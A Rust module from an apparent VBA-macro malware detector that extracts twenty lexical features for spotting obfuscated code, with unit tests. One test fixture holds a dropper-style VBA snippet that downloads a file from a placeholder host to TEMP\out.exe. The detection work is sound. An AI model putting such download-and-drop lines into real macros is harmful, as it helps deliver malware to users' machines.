//! The comparison feature set J1–J20 (paper Table VI), assembled from the
//! obfuscated-JavaScript detection literature (Likarish et al. \[24\] and
//! Aebersold et al. \[26\]) and adapted to VBA as described in §V: J14 uses a
//! 150-character threshold (VBA has no minification), and JS-only features
//! (e.g. `eval()` counts) are omitted — exactly the 20 rows of Table VI.
//!
//! The extractor is *fused*: every character-level quantity (counts,
//! whitespace, entropy histogram, line lengths, word statistics) comes
//! from the accumulators the lexer's full mode filled in its single pass,
//! call sites and procedure bodies from the token machine that pass ran,
//! and J9 from one token-slice walk — the source text is never
//! re-walked. `crate::reference` keeps the historical multi-pass
//! implementation as a bit-equivalence oracle.

use crate::entropy::entropy_from_counts;
use crate::fused::{arg_length_stats, PassScratch};
use vbadet_vba::MacroAnalysis;

/// Number of J features.
pub const J_DIM: usize = 20;

/// Feature names, index-aligned with the vector.
pub const J_NAMES: [&str; J_DIM] = [
    "J1 length in characters",
    "J2 avg. # of chars per line",
    "J3 total number of lines",
    "J4 # of strings",
    "J5 % human readable",
    "J6 % whitespace",
    "J7 % of methods called",
    "J8 avg. string length",
    "J9 avg. argument length",
    "J10 # of comments",
    "J11 avg. comments per line",
    "J12 # words",
    "J13 % words not in comments",
    "J14 % of lines > 150 chars",
    "J15 shannon entropy of the file",
    "J16 share of chars belonging to a string",
    "J17 % of backslash characters",
    "J18 avg. # of chars per function body",
    "J19 % of chars belonging to a function body",
    "J20 # of function definitions divided by J1",
];

/// Extracts J1–J20 from macro source code.
pub fn j_features(source: &str) -> [f64; J_DIM] {
    j_features_from(&MacroAnalysis::new(source))
}

/// Extracts J1–J20 from an existing lexical analysis.
pub fn j_features_from(analysis: &MacroAnalysis) -> [f64; J_DIM] {
    j_features_fused(analysis, &mut PassScratch::default())
}

/// Fused extraction into caller-provided scratch buffers (the scan hot
/// path reuses one [`PassScratch`] per worker).
pub(crate) fn j_features_fused(
    analysis: &MacroAnalysis,
    scratch: &mut PassScratch,
) -> [f64; J_DIM] {
    let stats = analysis.stats();
    let total_chars = stats.char_len as f64;
    let line_count = stats.line_count as f64;

    let j1 = total_chars;
    let j2 = if line_count == 0.0 {
        0.0
    } else {
        total_chars / line_count
    };
    let j3 = line_count;

    let string_count = analysis.string_count();
    let j4 = string_count as f64;

    let all_word_count = (stats.code_words + stats.comment_words) as f64;
    let readable = stats.readable_words as f64;
    let j5 = if all_word_count == 0.0 {
        0.0
    } else {
        readable / all_word_count
    };

    let j6 = if total_chars == 0.0 {
        0.0
    } else {
        stats.whitespace as f64 / total_chars
    };

    let counts = analysis.counts();
    let j7 = if all_word_count == 0.0 {
        0.0
    } else {
        counts.call_count as f64 / all_word_count
    };

    // J8: `string_len_sum` was accumulated string-by-string in token
    // order — the same sequential sum `mean()` performed.
    let j8 = if string_count == 0 {
        0.0
    } else {
        stats.string_len_sum / string_count as f64
    };
    let (arg_sum, arg_count) = arg_length_stats(analysis, scratch);
    let j9 = if arg_count == 0 {
        0.0
    } else {
        arg_sum / arg_count as f64
    };

    let j10 = analysis.comment_count() as f64;
    let j11 = if line_count == 0.0 {
        0.0
    } else {
        j10 / line_count
    };

    let j12 = all_word_count;
    let j13 = if all_word_count == 0.0 {
        0.0
    } else {
        stats.code_words as f64 / all_word_count
    };

    let j14 = if line_count == 0.0 {
        0.0
    } else {
        stats.long_lines as f64 / line_count
    };

    let j15 = entropy_from_counts(stats.char_counts(), stats.char_len);
    let j16 = if total_chars == 0.0 {
        0.0
    } else {
        stats.string_chars as f64 / total_chars
    };

    let j17 = if total_chars == 0.0 {
        0.0
    } else {
        stats.backslashes as f64 / total_chars
    };

    let j18 = if counts.body_count == 0 {
        0.0
    } else {
        counts.body_chars / counts.body_count as f64
    };
    let j19 = if total_chars == 0.0 {
        0.0
    } else {
        counts.body_chars / total_chars
    };
    let j20 = if total_chars == 0.0 {
        0.0
    } else {
        counts.body_count as f64 / total_chars
    };

    [
        j1, j2, j3, j4, j5, j6, j7, j8, j9, j10, j11, j12, j13, j14, j15, j16, j17, j18, j19, j20,
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = "Sub Go()\r\n\
        ' a helpful comment\r\n\
        path = Environ(\"TEMP\") & \"\\out.exe\"\r\n\
        r = Download(\"http://x.test/a\", path)\r\n\
        End Sub\r\n";

    #[test]
    fn vector_shape() {
        let j = j_features(SAMPLE);
        assert_eq!(j.len(), J_DIM);
        assert_eq!(J_NAMES.len(), J_DIM);
        assert!(j.iter().all(|x| x.is_finite()));
    }

    #[test]
    fn empty_source_is_all_zero() {
        assert!(j_features("").iter().all(|&x| x == 0.0));
    }

    #[test]
    fn counts_are_plausible() {
        let j = j_features(SAMPLE);
        assert_eq!(j[0], SAMPLE.chars().count() as f64); // J1
        assert_eq!(j[2], 5.0); // J3 lines
        assert_eq!(j[3], 3.0); // J4 strings
        assert_eq!(j[9], 1.0); // J10 comments
        assert!(j[5] > 0.0 && j[5] < 1.0); // J6 whitespace share
    }

    #[test]
    fn j5_falls_under_random_identifiers() {
        let readable = j_features("Dim counter\r\ncounter = counter + 1\r\n");
        let random = j_features("Dim yruuehdjdnnz\r\nyruuehdjdnnz = yruuehdjdnnz + 1\r\n");
        assert!(readable[4] > random[4]);
    }

    #[test]
    fn j9_measures_argument_lengths() {
        // Arguments: `1` (1 char), `"abcdefgh"` (10 chars incl. quotes).
        let j = j_features("r = F(1, \"abcdefgh\")");
        assert!((j[8] - 5.5).abs() < 1e-9, "J9 = {}", j[8]);
        // Nested calls count the outer argument span once and inner args too.
        let nested = j_features("r = F(G(22))");
        assert!(nested[8] > 0.0);
    }

    #[test]
    fn j14_long_lines() {
        let long_line = format!("x = \"{}\"\r\ny = 1\r\n", "a".repeat(200));
        let j = j_features(&long_line);
        assert!(
            (j[13] - 0.5).abs() < 1e-9,
            "one of two lines is long: {}",
            j[13]
        );
    }

    #[test]
    fn j17_backslashes() {
        let j = j_features("p = \"C:\\dir\\file.exe\"");
        assert!(j[16] > 0.0);
    }

    #[test]
    fn j18_j19_j20_function_bodies() {
        let j = j_features(SAMPLE);
        assert!(j[17] > 0.0, "J18 body length");
        assert!(j[18] > 0.9, "J19 nearly all chars in one body: {}", j[18]);
        assert!(j[19] > 0.0, "J20 definitions per char");
    }

    #[test]
    fn fused_matches_reference_bitwise() {
        for src in [
            SAMPLE,
            "",
            "x = 1",
            "Rem c\r\n' d\r\nSub A()\nExit Sub\nEnd Sub\n",
            "r = F(1, \"abcdefgh\") ' args\r\n",
        ] {
            let a = MacroAnalysis::new(src);
            let fused = j_features_from(&a);
            let reference = crate::reference::j_features_from(&a);
            for (i, (f, r)) in fused.iter().zip(reference.iter()).enumerate() {
                assert_eq!(f.to_bits(), r.to_bits(), "J{} differs on {src:?}", i + 1);
            }
        }
    }
}
